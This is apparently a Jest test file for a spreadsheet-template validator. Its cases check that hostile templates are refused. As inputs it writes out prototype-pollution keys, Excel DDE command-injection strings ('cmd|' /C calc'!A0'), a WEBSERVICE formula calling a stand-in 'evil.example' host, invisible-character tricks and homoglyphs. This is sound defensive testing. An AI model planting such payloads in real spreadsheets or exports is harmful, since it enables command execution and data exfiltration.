/**
 * Every way parseTemplate refuses a template, as one base file (golden/small-allotment, which it
 * accepts) and a table of small changes, each beside the exact message it must give: the path of
 * the problem first. Refusing a hostile file never changes the program.
 */
import { readFileSync } from "fs";
import { join } from "path";
import { parseTemplate } from "../../src/templates";
import { refusal } from "./refusal";

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const baseText = readFileSync(join(__dirname, "golden", "small-allotment.template.json"), "utf8");
const formulaAt = (t: Json, formula: string) => (t.sections[0].rows[3].cells[0].formula = formula);
const label = (t: Json, language: "en" | "ja", text: string) => (t.sections[0].rows[0].label[language] = text);

/** [case, change to the base (an edit of the parsed file, or of its text), the message]. */
const refusals: [string, ((t: Json) => void) | { text: (file: string) => string }, string][] = [
  // The file's shape, before the schema
  ["not an object", { text: () => "[]" }, "(template): expected an object, found an array"],
  [
    "a __proto__ key",
    { text: (file) => file.replace(/^\{/, '{ "__proto__": { "polluted": true },') },
    `__proto__: "__proto__" is not allowed as a key (it would reach JavaScript's object prototype)`,
  ],
  [
    "a constructor key",
    (t) => (t.inputs[0].constructor = { prototype: { polluted: true } }),
    `inputs[0].constructor: "constructor" is not allowed as a key (it would reach JavaScript's object prototype)`,
  ],
  [
    "nesting too deep",
    (t) => (t.values = { issued: [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]] }),
    "values.issued[0][0][0][0][0][0][0][0][0][0][0]: is nested more than 12 levels deep",
  ],
  // The schema
  ["format", (t) => (t.format = "excel-macro"), 'format: expected "merger-template", found "excel-macro"'],
  ["version", (t) => (t.version = 2), "version: expected 1, found 2"],
  [
    "template id",
    (t) => (t.id = "Bad Id"),
    'id: "Bad Id" is not a valid template id (lower-case letters, digits and -)',
  ],
  ["unknown property", (t) => (t.macro = true), "macro: unknown property"],
  ["a label without a language", (t) => delete t.title.ja, "title.ja: expected text, found undefined"],
  [
    "a label too long",
    (t) => label(t, "en", "x".repeat(1001)),
    "sections[0].rows[0].label.en: is 1001 characters long; at most 1000 are allowed",
  ],
  [
    "an input kind",
    (t) => (t.inputs[0].kind = "money"),
    'inputs[0].kind: "money" is not one of "text", "shares", "ratio", "yen", "price", "fraction", "unit", "date", "boolean", "choice", "table"',
  ],
  [
    "a reserved id",
    (t) => {
      t.inputs[1].id = "toString";
      t.sections[0].rows[1].cells[0].input = "toString";
    },
    'inputs[1].id: "toString" is reserved; choose another input id',
  ],
  [
    "a cell of two kinds",
    (t) => (t.sections[0].rows[0].cells[0].formula = "=1"),
    'sections[0].rows[0].cells[0]: a cell has exactly one of "input", "formula", "spilled", "text" or "empty"',
  ],
  [
    "a formula too long",
    (t) => formulaAt(t, `=Issued${"+Issued".repeat(300)}`),
    "sections[0].rows[3].cells[0].formula: is 2107 characters long; at most 2000 are allowed",
  ],
  [
    "too many rows",
    (t) =>
      t.sections[0].rows.push(
        ...Array.from({ length: 201 }, (_, i) => ({
          label: { en: `Row ${i}`, ja: `行${i}` },
          cells: [{ empty: true }],
        })),
      ),
    "sections[0].rows: has 205 items; at most 200 are allowed",
  ],
  [
    "a table of a million rows",
    (t) => (t.sections[1].minRows = 1_048_576),
    "sections[1].minRows: 1048576 is above the maximum 5000",
  ],
  [
    "a number format that hides the value",
    (t) => (t.sections[0].rows[3].cells[0].format = ";;;"),
    `sections[0].rows[3].cells[0].format: ";;;" is not one of "0", "General", "0.00", "#,##0", "#,##0.00", "#,##0.0000", "0%", "0.0%", "0.00%", "0.######", "yyyy-mm-dd", "yyyy/mm/dd"`,
  ],
  [
    "a number format that shows a constant",
    (t) => (t.sections[1].columns[2].format = '0;0;0;"OK"'),
    `sections[1].columns[2].format: "0;0;0;\\"OK\\"" is not one of "0", "General", "0.00", "#,##0", "#,##0.00", "#,##0.0000", "0%", "0.0%", "0.00%", "0.######", "yyyy-mm-dd", "yyyy/mm/dd"`,
  ],
  // Labels and sheet names
  ["an empty label", (t) => label(t, "ja", "  "), "sections[0].rows[0].label.ja: cannot be empty"],
  [
    "a title read as a formula",
    (t) => (t.title.en = '=HYPERLINK("http://x.test","click")'),
    'title.en: "=HYPERLINK("http://x.test","click")" starts with "=", which Excel reads as a formula; begin the text another way',
  ],
  [
    "a bidirectional override in a label",
    (t) => label(t, "en", "Shares \u202Edeussi"),
    "sections[0].rows[0].label.en: contains the invisible character U+202E",
  ],
  [
    "a zero-width space in a sheet name",
    (t) => (t.sheetName.ja = "割当\u200Bて"),
    "sheetName.ja: contains the invisible character U+200B",
  ],
  [
    "a control character in a message",
    (t) => (t.messages.enterRatio.en = "(enter\u0007 the ratio)"),
    "messages.enterRatio.en: contains the invisible character U+0007",
  ],
  [
    // A message goes into formulas as a string: what a string may not hold, a message may not.
    "a message of a DDE link",
    (t) => (t.messages.enterRatio.ja = "cmd|' /C calc'!A0"),
    `messages.enterRatio.ja: the text "cmd|' /C calc'!A0" is a DDE link (program|topic!item), which Excel runs once it reads the text as a formula`,
  ],
  ["a sheet name Excel reserves", (t) => (t.sheetName.en = "History"), 'sheetName.en: "History" is reserved by Excel'],
  // Names
  [
    "a name like a cell",
    (t) => (t.inputs[0].name = "AB12"),
    'inputs[0].name: "AB12" reads as a cell reference (letters, then digits)',
  ],
  [
    // Excel's columns end at XFD, but the preview's engine reads any letters then digits as a cell.
    "a named cell like a cell past column XFD",
    (t) => (t.sections[0].rows[3].cells[0].name = "TRUE1"),
    'sections[0].rows[3].cells[0].name: "TRUE1" reads as a cell reference (letters, then digits)',
  ],
  [
    "a name that is the add-in's namespace",
    (t) => (t.inputs[0].name = "MERGER"),
    `inputs[0].name: "MERGER" is the add-in's function namespace`,
  ],
  [
    "a name that is one of the add-in's functions",
    (t) => (t.inputs[0].name = "ODD_LOT"),
    `inputs[0].name: "ODD_LOT" is the name of the add-in's function MERGER.ODD_LOT`,
  ],
  [
    "a name that is one of the add-in's functions in full",
    (t) => (t.inputs[0].name = "MERGER.ODD_LOT"),
    `inputs[0].name: "MERGER.ODD_LOT" is the name of the add-in's function MERGER.ODD_LOT`,
  ],
  [
    "a name in the add-in's namespace",
    (t) => (t.inputs[0].name = "Merger.Issued"),
    `inputs[0].name: "Merger.Issued" starts with "MERGER.", the add-in's function namespace`,
  ],
  [
    "a name twice",
    (t) => (t.inputs[1].name = "ratio"),
    'inputs[2].name: the name "Ratio" is already defined at inputs[1].name',
  ],
  [
    "Print_Area",
    (t) => (t.sections[0].rows[3].cells[0].name = "Print_Area"),
    'sections[0].rows[3].cells[0].name: "Print_Area" is a name Excel reserves for itself',
  ],
  [
    "_FilterDatabase",
    (t) => (t.sections[1].columns[1].name = "_FilterDatabase"),
    'sections[1].columns[1].name: "_FilterDatabase" is a name Excel reserves for itself',
  ],
  [
    "an _xlfn. name",
    (t) => (t.inputs[0].name = "_xlfn.Issued"),
    'inputs[0].name: "_xlfn.Issued" starts with "_xlfn.", which Excel reserves',
  ],
  [
    "a name that is an Excel function",
    (t) => (t.inputs[2].name = "Rate"),
    'inputs[2].name: "Rate" is the name of an Excel function',
  ],
  // Formulas
  [
    "a formula without =",
    (t) => formulaAt(t, "SUM(Issued)"),
    'sections[0].rows[3].cells[0].formula: a formula starts with "="',
  ],
  [
    "a cell address",
    (t) => formulaAt(t, "=Issued+B4"),
    'sections[0].rows[3].cells[0].formula: "B4" refers to cells by address: refer to them by the template\'s names (inputs, named cells, [@column], [#column])',
  ],
  [
    "a whole column",
    (t) => formulaAt(t, "=SUM(B:B)"),
    'sections[0].rows[3].cells[0].formula: "B:B" refers to cells by address: refer to them by the template\'s names (inputs, named cells, [@column], [#column])',
  ],
  [
    "another sheet",
    (t) => formulaAt(t, "=Sheet1!B4*2"),
    "sections[0].rows[3].cells[0].formula: a formula may not refer to another sheet",
  ],
  [
    "a function not allowed",
    (t) => formulaAt(t, '=WEBSERVICE("http://example.test/?"&Issued)'),
    "sections[0].rows[3].cells[0].formula: the function WEBSERVICE is not allowed in a template",
  ],
  [
    "TODAY passed to a MERGER function",
    (t) => formulaAt(t, "=MERGER.SIMPLIFIED_ARTICLE(TODAY())"),
    "sections[0].rows[3].cells[0].formula: TODAY is volatile: Excel would recalculate it, and every MERGER function depending on it, at each change; give the date or the range as an input",
  ],
  [
    "NOW passed to a MERGER function",
    (t) => formulaAt(t, "=MERGER.EX_DATE(INT(NOW()))"),
    "sections[0].rows[3].cells[0].formula: NOW is volatile: Excel would recalculate it, and every MERGER function depending on it, at each change; give the date or the range as an input",
  ],
  [
    "OFFSET passed to a MERGER function",
    (t) => formulaAt(t, "=MERGER.ODD_LOT(OFFSET(Issued,0,0))"),
    "sections[0].rows[3].cells[0].formula: OFFSET is volatile: Excel would recalculate it, and every MERGER function depending on it, at each change; give the date or the range as an input",
  ],
  [
    "INDIRECT passed to a MERGER function",
    (t) => formulaAt(t, '=MERGER.ODD_LOT(INDIRECT("Issued"))'),
    "sections[0].rows[3].cells[0].formula: INDIRECT is volatile: Excel would recalculate it, and every MERGER function depending on it, at each change; give the date or the range as an input",
  ],
  [
    "RAND beside a MERGER function, volatile through the cell",
    (t) => formulaAt(t, "=RAND()*2"),
    "sections[0].rows[3].cells[0].formula: RAND is volatile: Excel would recalculate it, and every MERGER function depending on it, at each change; give the date or the range as an input",
  ],
  [
    "a string that Excel reads as a formula when shown",
    (t) => formulaAt(t, '=IF(MERGER.ODD_LOT(1)=1,"=WEBSERVICE(""http://evil.example/"")","")'),
    'sections[0].rows[3].cells[0].formula: the text "=WEBSERVICE("http://evil.example/")" starts with "=", which Excel reads as a formula when it is shown; begin the text another way',
  ],
  [
    "a string of a DDE formula",
    (t) => formulaAt(t, `=IF(Issued>0,"+cmd|' /C calc'!A0","")`),
    `sections[0].rows[3].cells[0].formula: the text "+cmd|' /C calc'!A0" starts with "+", which Excel reads as a formula when it is shown; begin the text another way`,
  ],
  [
    "a string of a DDE link, to be joined to a sign",
    (t) => formulaAt(t, `="-"&"cmd|' /C calc'!A0"`),
    `sections[0].rows[3].cells[0].formula: the text "-" starts with "-", which Excel reads as a formula when it is shown; begin the text another way`,
  ],
  [
    "a string of a DDE link alone",
    (t) => formulaAt(t, `=-Issued&"cmd|' /C calc'!A0"`),
    `sections[0].rows[3].cells[0].formula: the text "cmd|' /C calc'!A0" is a DDE link (program|topic!item), which Excel runs once it reads the text as a formula`,
  ],
  [
    "a string starting with @",
    (t) => formulaAt(t, '=IF(Issued>0,"@SUM(1)","")'),
    'sections[0].rows[3].cells[0].formula: the text "@SUM(1)" starts with "@", which Excel reads as a formula when it is shown; begin the text another way',
  ],
  [
    "a string starting with a full-width ＝",
    (t) => formulaAt(t, '=IF(Issued>0,"＝SUM(1)","")'),
    'sections[0].rows[3].cells[0].formula: the text "＝SUM(1)" starts with "＝", which Excel reads as a formula when it is shown; begin the text another way',
  ],
  [
    "a string starting with a tab, then =",
    (t) => formulaAt(t, '=IF(Issued>0,"\t=SUM(1)","")'),
    'sections[0].rows[3].cells[0].formula: the text "\t=SUM(1)" starts with "=", which Excel reads as a formula when it is shown; begin the text another way',
  ],
  [
    "a full-width function name",
    (t) => formulaAt(t, '=ＷＥＢＳＥＲＶＩＣＥ("http://example.test/?"&Issued)'),
    'sections[0].rows[3].cells[0].formula: "Ｗ" outside quotes: a formula is written in ASCII, text in "…"',
  ],
  [
    "a look-alike letter in a name",
    (t) => formulaAt(t, "=Issued*Rаtio"), // Cyrillic а
    'sections[0].rows[3].cells[0].formula: "а" outside quotes: a formula is written in ASCII, text in "…"',
  ],
  [
    "an undefined name",
    (t) => formulaAt(t, "=Issued*Ratoi"),
    'sections[0].rows[3].cells[0].formula: the name "Ratoi" is not defined by any input, cell or table column',
  ],
  [
    "an undefined message",
    (t) => formulaAt(t, '=IF(Ratio="",{{enterRate}},Issued)'),
    'sections[0].rows[3].cells[0].formula: the message "{{enterRate}}" is not defined in "messages"',
  ],
  [
    "a row reference outside a table",
    (t) => formulaAt(t, "=[@shares]*Ratio"),
    'sections[0].rows[3].cells[0].formula: "[@shares]" can only be used in a table column\'s formula',
  ],
  [
    "a column reference to no column",
    (t) => (t.sections[1].summary[0].cells[0].formula = "=SUM([#wholes])"),
    'sections[1].summary[0].cells[0].formula: the table has no column "wholes" for "[#wholes]"',
  ],
  // Inputs, sections, spills, key results
  [
    "an input placed twice",
    (t) => (t.sections[0].rows[1].cells[0].input = "issued"),
    'sections[0].rows[1].cells[0].input: the input "issued" is already placed at sections[0].rows[0].cells[0] (its cell carries its name)',
  ],
  [
    "an input not shown",
    (t) => t.inputs.push({ id: "unused", kind: "shares", label: { en: "Unused", ja: "未使用" } }),
    'inputs[4]: the input "unused" is not shown by any section',
  ],
  [
    "a table input in a cell",
    (t) => (t.sections[0].rows[0].cells[0].input = "register"),
    'sections[0].rows[0].cells[0].input: "register" is a table input: show it with a "table" section',
  ],
  ["values for no input", (t) => (t.values = { issued: 4000, ratoi: 26 }), 'values.ratoi: no input has the id "ratoi"'],
  [
    "a spill before a column",
    (t) =>
      t.sections[1].columns.splice(2, 0, {
        id: "cash",
        header: { en: "Cash", ja: "金銭" },
        spill: "=MERGER.FRACTION_CASH([#shares],Ratio,1000)",
      }),
    "sections[1].columns[2]: spill columns must come after all the other columns (Excel refuses a spill inside a table)",
  ],
  [
    "a spilled cell under no formula",
    (t) => (t.sections[0].rows[1].cells[0] = { spilled: true, name: "Below" }),
    "sections[0].rows[1].cells[0]: a spilled cell sits right below (or right of) a formula cell, or another spilled cell, of the same column (row)",
  ],
  [
    "chart columns apart",
    (t) =>
      t.sections.push({
        kind: "chart",
        id: "chart",
        title: { en: "Chart", ja: "グラフ" },
        table: "register",
        x: "holder",
        y: "whole",
      }),
    'sections[2].y: the y column must sit right after the x column "holder"',
  ],
  [
    "a chart's last series column before its first",
    (t) =>
      t.sections.push({
        kind: "chart",
        id: "chart",
        title: { en: "Chart", ja: "グラフ" },
        table: "register",
        x: "holder",
        y: "shares",
        to: "holder",
      }),
    'sections[2].to: the last series column must sit at or after the y column "shares"',
  ],
  [
    "a line series beyond a table chart's series columns",
    (t) =>
      t.sections.push({
        kind: "chart",
        id: "chart",
        title: { en: "Chart", ja: "グラフ" },
        table: "register",
        x: "holder",
        y: "shares",
        to: "whole",
        lines: [2],
      }),
    "sections[2].lines: series 2 is not one of the 2 series columns",
  ],
  [
    "a chart of a rows section it does not follow",
    (t) => t.sections.push({ kind: "chart", id: "chart", title: { en: "Chart", ja: "グラフ" }, rows: "allotment" }),
    'sections[2].rows: the chart must come right after the "rows" section "allotment" it plots',
  ],
  [
    "a chart of a rows section and of a table at once",
    (t) =>
      t.sections.splice(1, 0, {
        kind: "chart",
        id: "chart",
        title: { en: "Chart", ja: "グラフ" },
        rows: "allotment",
        table: "register",
      }),
    'sections[1]: a chart plots either a "rows" section or a "table" (with "x" and "y"), not both',
  ],
  [
    "a line series beyond the value columns",
    (t) =>
      t.sections.splice(1, 0, {
        kind: "chart",
        id: "chart",
        title: { en: "Chart", ja: "グラフ" },
        type: "floatingColumn",
        rows: "allotment",
        lines: [1],
      }),
    "sections[1].lines: series 1 is not one of the 1 value columns",
  ],
  [
    "a chart type Excel is not asked for",
    (t) =>
      t.sections.splice(1, 0, {
        kind: "chart",
        id: "chart",
        title: { en: "C", ja: "C" },
        type: "radar",
        rows: "allotment",
      }),
    'sections[1].type: "radar" is not one of "line", "bar", "column", "floatingBar", "floatingColumn", "pie"',
  ],
  [
    "a block of columns in the wrong order",
    (t) => (t.sections[1].blocks = [{ name: "Block", from: "whole", to: "holder" }]),
    'sections[1].blocks[0].to: "holder" is not a column at or after "whole"',
  ],
  [
    "a key result of no named cell",
    (t) => (t.keyResults = [{ name: "SharesToProvid", label: { en: "Shares", ja: "株式" } }]),
    'keyResults[0].name: the name "SharesToProvid" is not defined by any input, cell or table column',
  ],
  [
    "a key result checked against no message",
    (t) => (t.keyResults = [{ name: "SharesToProvide", label: { en: "Shares", ja: "株式" }, warnUnless: "allGood" }]),
    'keyResults[0].warnUnless: the message "allGood" is not defined in "messages"',
  ],
];

test("the base file is accepted, so each refusal below is its change's doing", () => {
  expect(parseTemplate(JSON.parse(baseText)).id).toBe("small-allotment");
});

test.each(refusals)("%s", (_, change, message) => {
  let json: unknown;
  if (typeof change === "function") {
    json = JSON.parse(baseText);
    change(json as Json);
  } else json = JSON.parse(change.text(baseText));
  expect(refusal(json)).toBe(message);
  expect(Object.prototype).not.toHaveProperty("polluted");
});

test("a cycle (data that is no JSON file) is refused as nesting too deep", () => {
  const cycle: Record<string, unknown> = {};
  cycle.self = cycle;
  expect(refusal(cycle)).toMatch(/^self\.self\..*: is nested more than 12 levels deep$/);
});
